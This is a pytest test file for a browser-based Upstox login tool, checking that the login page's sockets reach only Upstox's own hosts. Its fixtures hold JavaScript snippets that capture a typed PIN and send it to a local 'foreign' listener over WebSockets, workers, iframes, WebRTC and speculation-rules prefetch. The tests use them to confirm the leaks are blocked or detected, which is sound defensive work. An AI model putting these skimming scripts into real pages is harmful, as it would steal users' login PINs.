"""Sockets lead to the login's own hosts only, whatever they would carry."""

from __future__ import annotations

import socket
from typing import Any

import pytest
from benchmarks.drift.runs import ledgers_below
from playwright.async_api import Error as PlaywrightError

from tests.harness import Desk, variants
from tests.page.collector import collecting
from upstox_browser_login.page import timing
from upstox_browser_login.page.origins import Origins
from upstox_browser_login.page.sockets import own, refuse_foreign
from upstox_browser_login.replica import Replica
from upstox_browser_login.replica import login as pages
from upstox_browser_login.replica.pages import bundle
from upstox_browser_login.settings import Settings

from .hops import Listener

OPENS = {
    "window": "new WebSocket(url)",
    "address": "new WebSocket(`${url}?pin=${pin}`)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`new WebSocket('${url}')`])))",
    "frame": "{ const f = document.createElement('iframe'); document.body.append(f);"
    " new f.contentWindow.WebSocket(url); }",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`new WebSocket('${url}')`])))",
    "WebRTC": "{ const p = new RTCPeerConnection({iceServers: [{urls: 'stun:' + place}]});"
    " p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }",
}
"""Ways of a page to reach a server past HTTP."""

SPIES = """
addEventListener("input", (event) => {{
  const pin = event.target.value, place = "localhost:{port}", url = `ws://${{place}}/`;
  if (event.target.id === "pinCode") try {{ {open} }} catch (error) {{ }}
}});
"""


@pytest.mark.usefixtures("sharing")
@pytest.mark.parametrize(
    "how", ["address", "worker", *variants(*sorted(OPENS.keys() - {"address", "worker"}))]
)
def test_a_socket_to_somebody_else_is_never_connected(
    how: str, desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The page itself wants to tell a foreign server what was typed."""
    with (
        Listener() as foreign,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets,
        Replica("remembered", clock=desk.clock.time) as replica,
    ):
        packets.bind((foreign.host, foreign.port))
        packets.setblocking(False)
        text = SPIES.format(open=OPENS[how], port=foreign.port) + bundle()
        monkeypatch.setattr(f"{pages.__name__}.bundle", lambda: text)
        attempt = desk.log_in(replica, trace="off")
        assert replica.counts.pins == 1
        with pytest.raises(BlockingIOError):
            packets.recv(2000)
    assert attempt.code == "OK", attempt.error
    assert foreign.accepted == []


FETCHES_AHEAD = """
addEventListener("input", ({{ target }}) => {{
  if (target.id !== "pinCode" || target.value.length < 6) return;
  const rules = document.createElement("script");
  const urls = ["http://localhost:{port}/?pin=" + target.value];
  const prefetch = [{{ source: "list", urls, eagerness: "immediate" }}];
  rules.type = "speculationrules";
  rules.textContent = JSON.stringify({{ prefetch }});
  document.head.append(rules);
}});
"""


@pytest.mark.usefixtures("sharing")
def test_what_is_fetched_ahead_counts_as_sent(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """Chromium does not let us stop it; no PIN is sent after it that might be a second one."""
    with (
        Listener() as foreign,
        Replica("remembered", clock=desk.clock.time) as replica,
    ):
        text = FETCHES_AHEAD.format(port=foreign.port) + bundle()
        monkeypatch.setattr(f"{pages.__name__}.bundle", lambda: text)
        monkeypatch.setattr(timing, "DEFAULT", timing.Timing(unknown=2.0))
        attempt = desk.log_in(replica, trace="off")
        assert replica.counts.pins == 0
    assert attempt.code == "TIMEOUT"
    assert "sent what was typed in its pin form by itself" in str(attempt.error)
    (ledger,) = ledgers_below(desk.home)
    assert [(each["refused"], each["times"] >= 1) for each in ledger["pins"]] == [(False, True)]


@pytest.mark.usefixtures("sharing")
def test_a_socket_of_the_logins_own_host_works(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """On any port of it, as all of Upstox's hosts."""
    says = 'const line = new WebSocket("ws://127.0.0.1:{port}/login/own/plain");'
    says += 'line.onopen = () => line.send("price?");'
    with collecting("pin", "kept") as own_server, Replica(clock=desk.clock.time) as replica:
        text = says.format(port=own_server.port) + bundle()
        monkeypatch.setattr(f"{pages.__name__}.bundle", lambda: text)
        assert desk.log_in(replica, trace="off").code == "OK"
    assert set(own_server.got) == {"price?"}


SENDS_THE_PIN = """
const line = new WebSocket("ws://127.0.0.1:{port}/login/own/plain");
addEventListener("input", ({{ target }}) =>
  target.id === "pinCode" && target.value.length === 6 && line.send(target.value));
addEventListener("submit", (event) => event.preventDefault(), true);
"""


@pytest.mark.usefixtures("sharing")
def test_a_pin_that_is_refused_over_a_socket_alone(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The page shows nothing of it, and sends nothing else."""
    with (
        collecting("pin", "refused") as own_server,
        Replica("remembered", clock=desk.clock.time) as replica,
    ):
        text = SENDS_THE_PIN.format(port=own_server.port) + bundle()
        monkeypatch.setattr(f"{pages.__name__}.bundle", lambda: text)
        attempt = desk.log_in(replica, trace="off")
        assert own_server.got == [replica.account.pin]
        assert replica.counts.pins == 0
    assert attempt.code == "PIN_REJECTED"
    assert attempt.error is not None
    assert attempt.error.upstox_code == "1017106"
    (ledger,) = ledgers_below(desk.home)
    assert [(each["refused"], each["times"]) for each in ledger["pins"]] == [(True, 1)]


LOGIN = [f"wss://{name}.upstox.com:*/*" for name in ("api-v2", "api", "login", "service")]


@pytest.mark.parametrize(
    ("api", "patterns"),
    [
        ("https://api.upstox.com", LOGIN),
        ("https://api-test.upstox.com", [*LOGIN, "wss://api-test.upstox.com:*/*"]),
        (
            "http://[::1]:8000",
            [*LOGIN, "ws://[::1]:*/*", "wss://[::1]:*/*"],
        ),
    ],
)
def test_whose_sockets_are_let_pass(api: str, patterns: list[str]) -> None:
    origins = Origins.of(Settings(redirect_uri="https://callback.example/cb", api_base_url=api))
    assert list(own(origins)) == patterns


async def test_a_browser_that_does_not_know_the_command() -> None:
    """An old one elsewhere; the login goes on."""

    class Old:
        sent = 0

        def on(self, event: str, f: Any) -> None:
            """Hear of nothing."""

        async def send(self, method: str, params: dict[str, Any] | None = None) -> Any:
            assert params
            self.sent += 1
            raise PlaywrightError(f"'{method}' wasn't found")

    old = Old()
    await refuse_foreign(old, Origins.of(Settings(redirect_uri="https://callback.example/cb")))
    assert old.sent == 1
